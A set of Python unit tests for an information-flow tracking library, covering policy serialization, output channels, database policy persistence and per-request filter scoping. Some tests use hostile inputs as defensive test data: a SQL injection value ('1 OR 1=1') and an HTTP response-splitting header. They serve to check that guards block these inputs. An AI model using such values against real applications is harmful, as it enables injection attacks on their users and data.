        assert rmap.every_position_has(UntrustedData)


class TestSerializationHelpers:
    def test_segments_roundtrip(self):
        rmap = RangeMap(10, [PolicyRange(1, 4, PolicySet.of(U, S))])
        rebuilt = RangeMap.from_segments(10, rmap.to_segments())
        assert rebuilt == rmap

    def test_equality(self):
        assert RangeMap.uniform(3, U) == RangeMap.uniform(3, U)
        assert RangeMap.uniform(3, U) != RangeMap.uniform(4, U)
