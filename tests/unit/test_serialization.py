"""Unit tests for persistent-policy serialization."""

import pytest

from repro.core.exceptions import SerializationError
from repro.core.policy import Policy
from repro.core.policyset import PolicySet
from repro.core.serialization import (deserialize_policy, dumps_policyset,
                                      dumps_rangemap, find_policy_class,
                                      loads_policyset, loads_rangemap,
                                      register_policy_class, serialize_policy)
from repro.policies import (ACL, CodeApproval, PagePolicy, PasswordPolicy,
                            ReadAccessPolicy, UntrustedData)
from repro.tracking.ranges import RangeMap
from repro.tracking.tainted_str import taint_str


class TestPolicyRoundTrip:
    def test_simple_policy(self):
        policy = PasswordPolicy("a@b.c", allow_chair=False)
        restored = deserialize_policy(serialize_policy(policy))
        assert restored == policy
        assert restored.email == "a@b.c"
        assert restored.allow_chair is False

    def test_policy_with_frozenset_field(self):
        policy = ReadAccessPolicy(["alice", "bob"], label="reviews")
        restored = deserialize_policy(serialize_policy(policy))
        assert set(restored.allowed_users) == {"alice", "bob"}

    def test_page_policy_restores_acl(self):
        policy = PagePolicy(ACL.parse("alice:read,write"), "FrontPage")
        restored = deserialize_policy(serialize_policy(policy))
        assert isinstance(restored.acl, ACL)
        assert restored.acl.may("alice", "write")
        assert not restored.acl.may("bob", "read")

    def test_nested_policy_field(self):
        class Wrapper(Policy):
            def __init__(self, inner):
                self.inner = inner

        register_policy_class(Wrapper)
        restored = deserialize_policy(
            serialize_policy(Wrapper(UntrustedData("w"))))
        assert restored.inner == UntrustedData("w")

    def test_deserialize_does_not_call_init(self):
        class Strict(Policy):
            def __init__(self, mandatory):
                self.mandatory = mandatory

        register_policy_class(Strict)
        record = serialize_policy(Strict("value"))
        record["fields"].pop("mandatory")
        restored = deserialize_policy(record)
        assert not hasattr(restored, "mandatory")

    def test_unknown_class_raises(self):
        with pytest.raises(SerializationError):
            deserialize_policy({"class": "no.such.Class", "fields": {}})

    def test_unserializable_field_raises(self):
        class Bad(Policy):
            def __init__(self):
                self.handle = object()

        with pytest.raises(SerializationError):
            serialize_policy(Bad())

    def test_malformed_record_raises(self):
        with pytest.raises(SerializationError):
            deserialize_policy({"fields": {}})


class TestRegistry:
    def test_find_by_qualified_name(self):
        name = f"{CodeApproval.__module__}.{CodeApproval.__qualname__}"
        assert find_policy_class(name) is CodeApproval

    def test_find_by_short_name(self):
        assert find_policy_class("CodeApproval") is CodeApproval

    def test_register_rejects_non_policy(self):
        with pytest.raises(TypeError):
            register_policy_class(str)

    def test_register_decorator_usage(self):
        @register_policy_class
        class Custom(Policy):
            pass

        assert find_policy_class(Custom.__qualname__) is Custom
        assert find_policy_class(
            f"{Custom.__module__}.{Custom.__qualname__}") is Custom


class TestPolicySetAndRangeMap:
    def test_policyset_json_roundtrip(self):
        pset = PolicySet.of(UntrustedData("a"), PasswordPolicy("x@y.z"))
        assert loads_policyset(dumps_policyset(pset)) == pset

    def test_empty_policyset(self):
        assert loads_policyset("") == PolicySet.empty()
        assert loads_policyset(None) == PolicySet.empty()
        assert loads_policyset(dumps_policyset(PolicySet.empty())) == \
            PolicySet.empty()

    def test_rangemap_json_roundtrip(self):
        value = taint_str("ab", UntrustedData()) + "cd"
        restored = loads_rangemap(dumps_rangemap(value.rangemap))
        assert restored == value.rangemap

    def test_rangemap_empty_text(self):
        assert loads_rangemap(None, 5) == RangeMap.empty(5)

    def test_dumps_is_deterministic(self):
        pset = PolicySet.of(UntrustedData("a"), UntrustedData("b"))
        assert dumps_policyset(pset) == dumps_policyset(pset)
