"""Unit tests for persistent-policy serialization."""

import pytest

from repro.core.exceptions import PolicyViolation, SerializationError
from repro.core.policy import Policy
from repro.core.policyset import PolicySet
from repro.core.serialization import (UnknownPolicy, deserialize_policy,
                                      dumps_policyset, dumps_rangemap,
                                      find_policy_class, loads_policyset,
                                      loads_rangemap, register_policy_class,
                                      serialize_policy)
from repro.policies import (ACL, CodeApproval, PagePolicy, PasswordPolicy,
                            ReadAccessPolicy, UntrustedData)
from repro.tracking.ranges import RangeMap
from repro.tracking.tainted_str import taint_str


class TestPolicyRoundTrip:
    def test_simple_policy(self):
        policy = PasswordPolicy("a@b.c", allow_chair=False)
        restored = deserialize_policy(serialize_policy(policy))
        assert restored == policy
        assert restored.email == "a@b.c"
        assert restored.allow_chair is False

    def test_policy_with_frozenset_field(self):
        policy = ReadAccessPolicy(["alice", "bob"], label="reviews")
        restored = deserialize_policy(serialize_policy(policy))
        assert set(restored.allowed_users) == {"alice", "bob"}

    def test_page_policy_restores_acl(self):
        policy = PagePolicy(ACL.parse("alice:read,write"), "FrontPage")
        restored = deserialize_policy(serialize_policy(policy))
        assert isinstance(restored.acl, ACL)
        assert restored.acl.may("alice", "write")
        assert not restored.acl.may("bob", "read")

    def test_nested_policy_field(self):
        class Wrapper(Policy):
            def __init__(self, inner):
                self.inner = inner

        register_policy_class(Wrapper)
        restored = deserialize_policy(
            serialize_policy(Wrapper(UntrustedData("w"))))
        assert restored.inner == UntrustedData("w")

    def test_deserialize_does_not_call_init(self):
        class Strict(Policy):
            def __init__(self, mandatory):
                self.mandatory = mandatory

        register_policy_class(Strict)
        record = serialize_policy(Strict("value"))
        record["fields"].pop("mandatory")
        restored = deserialize_policy(record)
        assert not hasattr(restored, "mandatory")

    def test_unknown_class_raises(self):
        with pytest.raises(SerializationError):
            deserialize_policy({"class": "no.such.Class", "fields": {}})

    def test_unserializable_field_raises(self):
        class Bad(Policy):
            def __init__(self):
                self.handle = object()

        with pytest.raises(SerializationError):
            serialize_policy(Bad())

    def test_malformed_record_raises(self):
        with pytest.raises(SerializationError):
            deserialize_policy({"fields": {}})


class TestRegistry:
    def test_find_by_qualified_name(self):
        name = f"{CodeApproval.__module__}.{CodeApproval.__qualname__}"
        assert find_policy_class(name) is CodeApproval

    def test_find_by_short_name(self):
        assert find_policy_class("CodeApproval") is CodeApproval

    def test_register_rejects_non_policy(self):
        with pytest.raises(TypeError):
            register_policy_class(str)

    def test_register_decorator_usage(self):
        @register_policy_class
        class Custom(Policy):
            pass

        assert find_policy_class(Custom.__qualname__) is Custom
        assert find_policy_class(
            f"{Custom.__module__}.{Custom.__qualname__}") is Custom


class TestPolicySetAndRangeMap:
    def test_policyset_json_roundtrip(self):
        pset = PolicySet.of(UntrustedData("a"), PasswordPolicy("x@y.z"))
        assert loads_policyset(dumps_policyset(pset)) == pset

    def test_empty_policyset(self):
        assert loads_policyset("") == PolicySet.empty()
        assert loads_policyset(None) == PolicySet.empty()
        assert loads_policyset(dumps_policyset(PolicySet.empty())) == \
            PolicySet.empty()

    def test_rangemap_json_roundtrip(self):
        value = taint_str("ab", UntrustedData()) + "cd"
        restored = loads_rangemap(dumps_rangemap(value.rangemap))
        assert restored == value.rangemap

    def test_rangemap_empty_text(self):
        assert loads_rangemap(None, 5) == RangeMap.empty(5)

    def test_dumps_is_deterministic(self):
        pset = PolicySet.of(UntrustedData("a"), UntrustedData("b"))
        assert dumps_policyset(pset) == dumps_policyset(pset)


class TestMixedTypeSetFields:
    """Regression: set members of different types used to break the
    encoder's determinism sort with a ``TypeError`` (``int`` vs ``str``);
    the stable key sorts the already-encoded members instead."""

    class Mixed(Policy):
        def __init__(self, members):
            self.members = members

    def test_mixed_type_set_roundtrips(self):
        policy = self.Mixed({1, "one", 2.5, None, True})
        restored = deserialize_policy(serialize_policy(policy))
        assert restored.members == {1, "one", 2.5, None, True}

    def test_mixed_type_set_is_deterministic(self):
        members = frozenset([3, "b", "a", 1])
        serialized = [serialize_policy(self.Mixed(set(members)))
                      for _ in range(5)]
        assert all(s == serialized[0] for s in serialized)

    def test_nested_mixed_structures(self):
        policy = self.Mixed({("pair", 1), ("pair", 2), "flat"})
        restored = deserialize_policy(serialize_policy(policy))
        assert restored.members == {("pair", 1), ("pair", 2), "flat"}


class TestTolerantDeserialization:
    """Unknown policy classes load as deny-by-default placeholders when
    ``tolerant=True`` (the storage engine's recovery mode) and still raise
    by default."""

    RECORD = {"class": "vendor.future.ShinyPolicy",
              "fields": {"level": 3}}

    def test_strict_mode_still_raises(self):
        with pytest.raises(SerializationError):
            deserialize_policy(dict(self.RECORD))

    def test_tolerant_mode_yields_placeholder(self):
        policy = deserialize_policy(dict(self.RECORD), tolerant=True)
        assert isinstance(policy, UnknownPolicy)
        assert policy.class_name == "vendor.future.ShinyPolicy"

    def test_placeholder_denies_export(self):
        policy = deserialize_policy(dict(self.RECORD), tolerant=True)
        with pytest.raises(PolicyViolation):
            policy.export_check({"type": "http"})

    def test_placeholder_roundtrips_verbatim(self):
        policy = deserialize_policy(dict(self.RECORD), tolerant=True)
        assert serialize_policy(policy) == self.RECORD
        again = deserialize_policy(serialize_policy(policy), tolerant=True)
        assert again == policy

    def test_tolerant_policyset_and_rangemap(self):
        text = dumps_policyset(PolicySet.of(UntrustedData("x")))
        alien = text.replace("UntrustedData", "EvaporatedPolicy")
        with pytest.raises(SerializationError):
            loads_policyset(alien)
        pset = loads_policyset(alien, tolerant=True)
        assert any(isinstance(p, UnknownPolicy) for p in pset)
        rangemap = taint_str("xy", UntrustedData()).rangemap
        blob = dumps_rangemap(rangemap).replace("UntrustedData", "GonePolicy")
        restored = loads_rangemap(blob, tolerant=True)
        assert any(isinstance(p, UnknownPolicy)
                   for p in restored.all_policies())
