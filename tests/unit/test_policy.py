"""Unit tests for Policy base-class behaviour."""

import pytest

from repro.core.exceptions import MergeError
from repro.core.policy import Policy, is_policy, validate_policies
from repro.core.policyset import PolicySet
from repro.policies import (AuthenticData, PasswordPolicy, SQLSanitized,
                            UntrustedData)


class Empty(Policy):
    pass


class WithFields(Policy):
    def __init__(self, a, b):
        self.a = a
        self.b = b


class Rejecting(Policy):
    merge_strategy = "reject"


class TestValueSemantics:
    def test_equal_policies_same_fields(self):
        assert WithFields(1, "x") == WithFields(1, "x")

    def test_unequal_policies_different_fields(self):
        assert WithFields(1, "x") != WithFields(2, "x")

    def test_different_classes_never_equal(self):
        assert Empty() != UntrustedData()

    def test_hash_consistent_with_eq(self):
        assert hash(WithFields(1, "x")) == hash(WithFields(1, "x"))

    def test_private_fields_excluded_from_identity(self):
        first = WithFields(1, "x")
        first._cache = "something"
        assert first == WithFields(1, "x")

    def test_repr_shows_fields(self):
        assert "a=1" in repr(WithFields(1, "x"))

    def test_eq_against_non_policy(self):
        assert WithFields(1, "x") != object()

    def test_identity_with_container_fields(self):
        assert WithFields([1, 2], {"k": "v"}) == WithFields([1, 2], {"k": "v"})
        assert WithFields({1, 2}, None) == WithFields({2, 1}, None)


class TestBaseBehaviour:
    def test_export_check_allows_by_default(self):
        Empty().export_check({"type": "http"})

    def test_is_policy(self):
        assert is_policy(Empty())
        assert not is_policy("not a policy")

    def test_validate_policies_rejects_non_policies(self):
        with pytest.raises(TypeError):
            validate_policies([Empty(), "oops"])

    def test_validate_policies_returns_set(self):
        result = validate_policies([Empty(), Empty()])
        assert result == {Empty()}


class TestMergeStrategies:
    def test_union_merge_keeps_policy(self):
        policy = UntrustedData("src")
        assert list(policy.merge(PolicySet.empty())) == [policy]

    def test_intersect_merge_drops_without_peer(self):
        policy = AuthenticData("ca")
        assert list(policy.merge(PolicySet.empty())) == []

    def test_intersect_merge_keeps_with_peer(self):
        policy = AuthenticData("ca")
        other = PolicySet.of(AuthenticData("other-ca"))
        assert list(policy.merge(other)) == [policy]

    def test_intersect_requires_same_class(self):
        policy = SQLSanitized()
        other = PolicySet.of(AuthenticData("ca"))
        assert list(policy.merge(other)) == []

    def test_reject_merge_raises(self):
        with pytest.raises(MergeError):
            Rejecting().merge(PolicySet.empty())

    def test_unknown_strategy_raises(self):
        class Weird(Policy):
            merge_strategy = "sometimes"

        with pytest.raises(MergeError):
            Weird().merge(PolicySet.empty())


class TestSerializableFields:
    def test_fields_sorted_and_public_only(self):
        policy = PasswordPolicy("a@b.c")
        policy._secret_cache = 42
        fields = policy.serializable_fields()
        assert list(fields) == sorted(fields)
        assert "_secret_cache" not in fields
        assert fields["email"] == "a@b.c"
