"""Unit tests for the I/O channels and the SQL policy-persistence channel."""

import pytest

from repro.channels import (CodeChannel, Database, EmailChannel,
                            HTTPOutputChannel, MailTransport, PipeChannel,
                            SocketChannel, is_policy_column, policy_column)
from repro.channels.sqlchan import (apply_cell_policies,
                                    serialize_cell_policies)
from repro.core.exceptions import (ChannelError, DisclosureViolation,
                                   PolicyViolation)
from repro.core.filter import Filter
from repro.core.policyset import PolicySet
from repro.core.api import policy_add, policy_get
from repro.policies import PasswordPolicy, UntrustedData
from repro.security.assertions import UntrustedInputFilter
from repro.sql.engine import Engine
from repro.tracking.propagation import concat
from repro.tracking.tainted_number import taint_int
from repro.tracking.tainted_str import taint_str

U = UntrustedData("test")
PW = PasswordPolicy("owner@example.org")


class TestCollectingChannels:
    def test_socket_write_records_transmission(self):
        sock = SocketChannel("peer.example.org")
        sock.write("hello")
        assert sock.transcript() == "hello"
        assert sock.context["peer"] == "peer.example.org"

    def test_socket_export_check_blocks_secret(self):
        sock = SocketChannel()
        with pytest.raises(DisclosureViolation):
            sock.write(policy_add("pw", PW))
        assert sock.transcript() == ""

    def test_socket_read_feeds_through_filters(self):
        sock = SocketChannel()
        sock.add_filter(UntrustedInputFilter("whois"))
        sock.feed("malicious record")
        data = sock.read()
        assert policy_get(data).has_type(UntrustedData)

    def test_read_empty_channel(self):
        assert SocketChannel().read() == ""

    def test_closed_channel_rejects_io(self):
        sock = SocketChannel()
        sock.close()
        with pytest.raises(ChannelError):
            sock.write("x")
        with pytest.raises(ChannelError):
            sock.read()

    def test_pipe_channel_context(self):
        pipe = PipeChannel("sendmail -t")
        assert pipe.context["command"] == "sendmail -t"
        pipe.write("body")
        assert pipe.transcript() == "body"

    def test_transcript_decodes_bytes(self):
        sock = SocketChannel()
        sock.write(b"raw bytes")
        assert sock.transcript() == "raw bytes"


class TestHTTPOutputChannel:
    def test_write_and_body(self):
        channel = HTTPOutputChannel()
        channel.write("<p>hi</p>")
        assert channel.body() == "<p>hi</p>"
        assert "<p>hi</p>" in channel

    def test_set_user_updates_context(self):
        channel = HTTPOutputChannel()
        channel.set_user("alice", priv_chair=True)
        assert channel.context["user"] == "alice"
        assert channel.context["priv_chair"] is True

    def test_password_blocked_for_other_user(self):
        channel = HTTPOutputChannel()
        channel.set_user("mallory")
        with pytest.raises(DisclosureViolation):
            channel.write(policy_add("pw", PW))
        assert channel.body() == ""

    def test_password_allowed_for_chair(self):
        channel = HTTPOutputChannel()
        channel.set_user("chair", priv_chair=True)
        channel.write(policy_add("pw", PW))
        assert "pw" in channel.body()

    def test_buffering_discard_substitutes_alternate(self):
        channel = HTTPOutputChannel()
        channel.write("before ")
        channel.start_buffering()
        channel.write("secret-authors")
        channel.discard_buffer("Anonymous")
        channel.write(" after")
        assert channel.body() == "before Anonymous after"

    def test_buffering_release(self):
        channel = HTTPOutputChannel()
        channel.start_buffering()
        channel.write("kept")
        channel.release_buffer()
        assert channel.body() == "kept"

    def test_violation_raised_before_buffering(self):
        channel = HTTPOutputChannel()
        channel.set_user("mallory")
        channel.start_buffering()
        with pytest.raises(PolicyViolation):
            channel.write(policy_add("pw", PW))
        channel.discard_buffer("fallback")
        assert channel.body() == "fallback"

    def test_headers_flow_through_filters(self):
        from repro.security.assertions import ResponseSplittingFilter
        channel = HTTPOutputChannel()
        channel.add_filter(ResponseSplittingFilter())
        channel.add_header("X-Plain", "ok")
        assert ("X-Plain", "ok") in channel.headers
        from repro.security.assertions import mark_untrusted
        with pytest.raises(PolicyViolation):
            channel.add_header("Location",
                               mark_untrusted("x\r\n\r\nHTTP/1.1 200 OK"))

    def test_status(self):
        channel = HTTPOutputChannel()
        channel.set_status(404)
        assert channel.status == 404


class TestMailTransport:
    def test_send_to_owner_allowed(self):
        mail = MailTransport()
        body = concat("your password: ", policy_add("pw", PW))
        message = mail.send("owner@example.org", "reminder", body)
        assert message.to == "owner@example.org"
        assert mail.sent_to("owner@example.org")

    def test_send_to_other_recipient_blocked(self):
        mail = MailTransport()
        body = concat("your password: ", policy_add("pw", PW))
        with pytest.raises(DisclosureViolation):
            mail.send("eve@example.org", "fwd", body)
        assert not mail.outbox

    def test_plain_mail(self):
        mail = MailTransport(default_sender="site@example.org")
        message = mail.send("anyone@example.org", "hello", "plain body")
        assert message.sender == "site@example.org"
        assert "hello" in repr(message)
        mail.clear()
        assert not mail.outbox

    def test_email_channel_context(self):
        channel = EmailChannel("user@example.org")
        assert channel.context["email"] == "user@example.org"


class TestCodeChannel:
    def test_default_filter_allows_plain_code(self):
        channel = CodeChannel()
        assert channel.load("print('hi')") == "print('hi')"

    def test_origin_recorded(self):
        channel = CodeChannel()
        channel.load("x = 1", origin="/www/app.php")
        assert channel.context["origin"] == "/www/app.php"

    def test_channel_is_read_only(self):
        with pytest.raises(NotImplementedError):
            CodeChannel().write("code")


class TestDatabaseChannel:
    @pytest.fixture
    def db(self):
        db = Database(Engine(), persist_policies=True)
        db.execute_unchecked("CREATE TABLE t (name TEXT, secret TEXT, n INTEGER)")
        return db

    def test_policy_columns_added_to_schema(self, db):
        table = db.engine.tables["t"]
        assert policy_column("secret") in table.column_names
        assert is_policy_column(policy_column("secret"))

    def test_cell_policies_roundtrip(self, db):
        secret = policy_add("hunter2", PW)
        db.query(concat("INSERT INTO t (name, secret, n) VALUES ('alice', '",
                        secret, "', 3)"))
        row = db.query("SELECT name, secret, n FROM t").rows[0]
        assert policy_get(row["secret"]).has_type(PasswordPolicy)
        assert policy_get(row["name"]) == PolicySet.empty()

    def test_select_star_reattaches_policies(self, db):
        db.query(concat("INSERT INTO t (name, secret, n) VALUES ('a', '",
                        policy_add("s", U), "', 1)"))
        row = db.query("SELECT * FROM t").rows[0]
        assert policy_get(row["secret"]) == PolicySet.of(U)
        assert not any(is_policy_column(c) for c in
                       db.query("SELECT * FROM t").columns)

    def test_partial_taint_survives_roundtrip(self, db):
        value = "id=" + taint_str("42", U)
        db.query(concat("INSERT INTO t (name, secret, n) VALUES ('a', '",
                        value, "', 1)"))
        stored = db.query("SELECT secret FROM t").rows[0]["secret"]
        assert stored.policies_at(0) == PolicySet.empty()
        assert stored.policies_at(3) == PolicySet.of(U)

    def test_update_refreshes_policies(self, db):
        db.query("INSERT INTO t (name, secret, n) VALUES ('a', 'old', 1)")
        db.query(concat("UPDATE t SET secret = '", policy_add("new", U),
                        "' WHERE name = 'a'"))
        stored = db.query("SELECT secret FROM t").rows[0]["secret"]
        assert policy_get(stored) == PolicySet.of(U)
        db.query("UPDATE t SET secret = 'plain' WHERE name = 'a'")
        stored = db.query("SELECT secret FROM t").rows[0]["secret"]
        assert policy_get(stored) == PolicySet.empty()

    def test_delete_and_aggregate_pass_through(self, db):
        db.query("INSERT INTO t (name, secret, n) VALUES ('a', 'x', 1)")
        assert db.query("SELECT COUNT(*) AS c FROM t").scalar() == 1
        assert db.query("DELETE FROM t").rowcount == 1

    def test_custom_filter_sees_query(self, db):
        seen = []

        class Spy(Filter):
            def filter_func(self, func, args, kwargs):
                seen.append(str(args[0]))
                return func(*args, **kwargs)

        db.add_filter(Spy())
        db.query("SELECT name FROM t")
        assert seen and seen[0].startswith("SELECT name")

    def test_persistence_disabled(self):
        db = Database(Engine(), persist_policies=False)
        db.execute_unchecked("CREATE TABLE p (v TEXT)")
        assert policy_column("v") not in db.engine.tables["p"].column_names
        db.query(concat("INSERT INTO p (v) VALUES ('", policy_add("s", U),
                        "')"))
        row = db.query("SELECT v FROM p").rows[0]
        assert policy_get(row["v"]) == PolicySet.empty()

    def test_default_filter_checks_query_policies(self, db):
        # A password embedded in a query is flowing to the SQL channel, which
        # is an internal boundary: the policy allows it (persistence filters
        # serialize rather than reject).
        secret = policy_add("pw", PW)
        db.query(concat("INSERT INTO t (name, secret, n) VALUES ('o', '",
                        secret, "', 1)"))

    def test_serialize_apply_cell_policies_helpers(self):
        assert serialize_cell_policies("plain") is None
        blob = serialize_cell_policies(taint_str("x", U))
        assert policy_get(apply_cell_policies("x", blob)) == PolicySet.of(U)
        number_blob = serialize_cell_policies(taint_int(3, U))
        assert policy_get(apply_cell_policies(3, number_blob)) == PolicySet.of(U)
        assert apply_cell_policies(None, blob) is None
        assert apply_cell_policies("x", None) == "x"
