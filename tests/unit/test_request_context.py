"""The per-request RequestContext API: contextvar binding, request-scoped
substrate state, and the per-request database filter overlay."""

import threading

import pytest

from repro.core.exceptions import InjectionViolation
from repro.core.request_context import (RequestContext, current_request,
                                        request_scoped_context)
from repro.policies.untrusted import UntrustedData
from repro.runtime_api import Resin
from repro.security.assertions import SQLGuardFilter, mark_untrusted
from repro.tracking.propagation import concat


class TestBinding:
    def test_no_request_by_default(self):
        assert current_request() is None

    def test_enter_binds_and_exit_restores(self):
        ctx = RequestContext(user="alice")
        assert not ctx.active
        with ctx:
            assert ctx.active
            assert current_request() is ctx
        assert not ctx.active
        assert current_request() is None

    def test_nesting_restores_the_enclosing_context(self):
        outer, inner = RequestContext(user="a"), RequestContext(user="b")
        with outer:
            with inner:
                assert current_request() is inner
            assert current_request() is outer
        assert current_request() is None

    def test_reentering_an_active_context_raises(self):
        ctx = RequestContext()
        with ctx:
            with pytest.raises(RuntimeError):
                ctx.__enter__()

    def test_binding_is_thread_local(self):
        seen = {}
        with RequestContext(user="main-user"):
            def probe():
                seen["other-thread"] = current_request()
            thread = threading.Thread(target=probe)
            thread.start()
            thread.join()
            assert current_request().user == "main-user"
        assert seen["other-thread"] is None

    def test_request_scoped_context_overlays_user(self):
        base = {"type": "sql"}
        assert request_scoped_context(base) == {"type": "sql"}
        with RequestContext(user="alice"):
            merged = request_scoped_context(base)
            assert merged["user"] == "alice"
            assert base == {"type": "sql"}   # shared context not mutated


class TestResinRequestScope:
    def test_scope_binds_a_request_context(self, resin):
        assert resin.current_request is None
        with resin.request(user="alice") as http:
            rctx = resin.current_request
            assert rctx is not None
            assert rctx.user == "alice"
            assert rctx.http is http
        assert resin.current_request is None

    def test_env_http_routes_to_the_request_channel(self, resin):
        shared = resin.env.http
        with resin.request(user="alice") as http:
            assert resin.env.http is http
            assert resin.env.http is not shared
        assert resin.env.http is shared

    def test_fs_context_is_request_local(self, resin):
        resin.fs.set_request_context(user="ambient")
        with resin.request(user="alice"):
            assert resin.fs.request_context == {"user": "alice"}
            resin.fs.set_request_context(user="switched")
            assert resin.fs.request_context == {"user": "switched"}
        # The ambient (outside-any-request) context survives untouched.
        assert resin.fs.request_context == {"user": "ambient"}

    def test_current_request_is_env_specific(self, resin):
        other = Resin()
        with resin.request(user="alice"):
            assert resin.current_request is not None
            assert other.current_request is None


def _injection(db):
    """Issue a query whose structure carries untrusted input."""
    payload = mark_untrusted("1 OR 1=1")
    db.query(concat("SELECT name FROM t WHERE id = ", payload))


class TestPerRequestDbFilters:
    @pytest.fixture
    def db(self, resin):
        resin.db.execute_unchecked("CREATE TABLE t (id INTEGER, name TEXT)")
        resin.db.execute_unchecked(
            "INSERT INTO t (id, name) VALUES (1, 'x')")
        return resin.db

    def test_filter_added_in_request_does_not_leak(self, resin, db):
        """Regression for the ROADMAP lifetime bug: before the RequestContext
        overlay, a filter installed inside ``resin.request(...)`` stayed on
        the database for the life of the environment."""
        with resin.request(user="alice"):
            db.add_filter(SQLGuardFilter("structure"))
            with pytest.raises(InjectionViolation):
                _injection(db)
        # The request is over: the guard is gone, the injection "succeeds".
        _injection(db)
        assert len(db.filter.filters) == 1   # only the default filter

    def test_assertion_installed_in_request_is_request_scoped(self, resin, db):
        with resin.request(user="alice"):
            resin.assertion("sql-injection").install()
            with pytest.raises(InjectionViolation):
                _injection(db)
        _injection(db)

    def test_filter_added_outside_request_persists(self, resin, db):
        db.add_filter(SQLGuardFilter("structure"))
        with pytest.raises(InjectionViolation):
            _injection(db)
        with resin.request(user="alice"):
            with pytest.raises(InjectionViolation):
                _injection(db)
        with pytest.raises(InjectionViolation):
            _injection(db)

    def test_overlay_filters_stack_on_base_filters(self, resin, db):
        hits = []

        class Spy(SQLGuardFilter):
            def filter_func(self, func, args, kwargs):
                hits.append(self.context.get("user"))
                return super().filter_func(func, args, kwargs)

        with resin.request(user="alice"):
            db.add_filter(Spy("structure"))
            db.query("SELECT name FROM t")
        assert hits == ["alice"]             # overlay context has the user

    def test_foreign_env_db_keeps_deployment_lifetime(self, resin, db):
        """A filter installed on *another* environment's database while a
        request is bound must not be captured (and then dropped) by the
        request overlay — it is a deployment-time guard for that other
        environment."""
        other = Resin()
        other.db.execute_unchecked("CREATE TABLE t (id INTEGER, name TEXT)")
        with resin.request(user="alice"):
            other.db.add_filter(SQLGuardFilter("structure"))
        with pytest.raises(InjectionViolation):
            _injection(other.db)                 # guard survived the request

    def test_sibling_requests_get_independent_overlays(self, resin, db):
        with resin.request(user="alice"):
            db.add_filter(SQLGuardFilter("structure"))
            with pytest.raises(InjectionViolation):
                _injection(db)
        with resin.request(user="bob"):
            # A fresh request starts with a clean overlay.
            _injection(db)

    def test_violation_context_names_the_request_user(self, resin, db):
        db.add_filter(SQLGuardFilter("structure"))   # shared base filter
        with resin.request(user="alice"):
            with pytest.raises(InjectionViolation) as excinfo:
                _injection(db)
        assert excinfo.value.context.get("user") == "alice"

    def test_violation_context_ignores_foreign_environment_request(self, db):
        """A request bound for *another* environment (e.g. an evaluation
        harness serving this app as a nested workload) must not have its
        principal misattributed to this environment's violations."""
        from repro.environment import Environment
        db.add_filter(SQLGuardFilter("structure"))   # shared base filter
        harness = Environment()
        with RequestContext(env=harness, user="evaluator@harness"):
            with pytest.raises(InjectionViolation) as excinfo:
                _injection(db)
        assert excinfo.value.context.get("user") != "evaluator@harness"


class TestTaintIsolationAcrossContexts:
    def test_untrusted_marks_do_not_cross_requests(self, resin):
        resin.db.execute_unchecked("CREATE TABLE notes (body TEXT)")
        with resin.request(user="alice"):
            tainted = mark_untrusted("alice-data")
            resin.db.query(concat(
                "INSERT INTO notes (body) VALUES ('", tainted, "')"))
        with resin.request(user="bob"):
            rows = resin.db.query("SELECT body FROM notes").rows
            body = rows[0]["body"]
            # Bob's request sees alice's taint on the *data* (persisted
            # policies), but his request context carries no leftover state.
            assert any(isinstance(p, UntrustedData)
                       for p in body.policies())
            assert resin.current_request.user == "bob"
            assert resin.current_request.db_filters(resin.db) == ()
