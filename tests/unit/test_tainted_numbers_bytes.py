"""Unit tests for TaintedInt, TaintedFloat and TaintedBytes."""

import pytest

from repro.core.policyset import PolicySet
from repro.policies import AuthenticData, SQLSanitized, UntrustedData
from repro.tracking.tainted_bytes import TaintedBytes, taint_bytes
from repro.tracking.tainted_number import (TaintedFloat, TaintedInt,
                                           taint_float, taint_int)
from repro.tracking.tainted_str import taint_str

U = UntrustedData("test")
A = AuthenticData("ca")


class TestTaintedInt:
    def test_behaves_like_int(self):
        assert taint_int(5, U) == 5
        assert taint_int(5, U) + 2 == 7
        assert hash(taint_int(5, U)) == hash(5)

    def test_addition_propagates_union_policy(self):
        result = taint_int(5, U) + 3
        assert isinstance(result, TaintedInt)
        assert result.policies() == PolicySet.of(U)

    def test_reverse_addition(self):
        result = 3 + taint_int(5, U)
        assert isinstance(result, TaintedInt)
        assert result.policies() == PolicySet.of(U)

    def test_intersection_policy_drops_on_merge_with_plain(self):
        result = taint_int(5, A) + 1
        assert not isinstance(result, TaintedInt)

    def test_intersection_policy_kept_when_both_authentic(self):
        result = taint_int(5, A) + taint_int(2, A)
        assert isinstance(result, TaintedInt)
        assert result.has_policy_type(AuthenticData)

    def test_division_returns_tainted_float(self):
        result = taint_int(5, U) / 2
        assert isinstance(result, TaintedFloat)
        assert result.policies() == PolicySet.of(U)

    def test_unary_operations(self):
        assert (-taint_int(5, U)).policies() == PolicySet.of(U)
        assert abs(taint_int(-5, U)).policies() == PolicySet.of(U)

    def test_bitwise_operations(self):
        assert (taint_int(6, U) & 3).policies() == PolicySet.of(U)
        assert (taint_int(6, U) | 1).policies() == PolicySet.of(U)
        assert (taint_int(1, U) << 3).policies() == PolicySet.of(U)

    def test_comparisons_stay_plain(self):
        assert (taint_int(5, U) > 3) is True

    def test_with_and_without_policy(self):
        value = taint_int(5, U).with_policy(A)
        assert len(value.policies()) == 2
        assert value.without_policy(U).policies() == PolicySet.of(A)

    def test_plain_result_when_no_policies(self):
        result = TaintedInt(5) + 3
        assert not isinstance(result, TaintedInt) or not result.policies()

    def test_pickle_drops_policies(self):
        import pickle
        restored = pickle.loads(pickle.dumps(taint_int(5, U)))
        assert restored == 5 and type(restored) is int


class TestTaintedFloat:
    def test_arithmetic_propagates(self):
        result = taint_float(1.5, U) * 2
        assert isinstance(result, TaintedFloat)
        assert result.policies() == PolicySet.of(U)

    def test_mixed_int_float(self):
        result = taint_int(3, U) + 0.5
        assert isinstance(result, TaintedFloat)
        assert result.policies() == PolicySet.of(U)

    def test_repr(self):
        assert repr(taint_float(1.5, U)) == "1.5"


class TestTaintedBytes:
    def test_construction_and_equality(self):
        assert taint_bytes(b"abc", U) == b"abc"

    def test_concat(self):
        combined = taint_bytes(b"ab", U) + b"cd"
        assert combined.policies_at(0) == PolicySet.of(U)
        assert combined.policies_at(2) == PolicySet.empty()

    def test_radd(self):
        combined = b"xy" + taint_bytes(b"z", U)
        assert isinstance(combined, TaintedBytes)
        assert combined.policies_at(2) == PolicySet.of(U)

    def test_slice(self):
        combined = taint_bytes(b"ab", U) + taint_bytes(b"cd", SQLSanitized())
        assert combined[2:].policies() == PolicySet.of(SQLSanitized())

